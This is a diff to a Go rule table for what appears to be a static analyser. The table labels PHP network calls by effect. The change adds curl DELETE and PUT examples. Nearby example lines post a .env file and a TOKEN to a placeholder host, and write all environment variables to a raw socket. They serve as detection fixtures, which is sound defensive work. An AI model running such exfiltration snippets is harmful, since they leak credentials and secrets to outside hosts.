@@ -110,7 +110,9 @@ var phpRules = [...]rule{
 	{name: "curl_init", ret: rURL},
 	{name: "curl_setopt", do: aCurlOpt, ex: `$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(".env")); => read:send .env` + "\n" +
 		`$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_POSTFIELDS, "a=1"); => send:http https://x.example/c` + "\n" +
-		`$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); !> send:http https://x.example/c` + "\n"},
+		`$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); !> send:http https://x.example/c` + "\n" +
+		`$c = curl_init("https://api.example.com/x"); curl_setopt($c, CURLOPT_CUSTOMREQUEST, "DELETE"); => destroy:http https://api.example.com/x` + "\n" +
+		`$c = curl_init("https://api.example.com/x"); curl_setopt($c, CURLOPT_CUSTOMREQUEST, "PUT"); !> destroy:http https://api.example.com/x` + "\n"},
 	{name: "curl_exec", do: aFetch, ex: `$c = curl_init("https://x.example/?k=" . getenv("TOKEN")); curl_exec($c); => var:send TOKEN` + "\n" +
 		`$c = curl_init("https://example.com"); curl_exec($c); !> send:http https://example.com` + "\n"},
 	{name: "fsockopen|stream_socket_client|pfsockopen", do: aConnect, opt: "raw", ret: rSocket, ex: `$s = fsockopen("203.0.113.3", 80); fwrite($s, json_encode($_ENV)); => env:send` + "\n" +
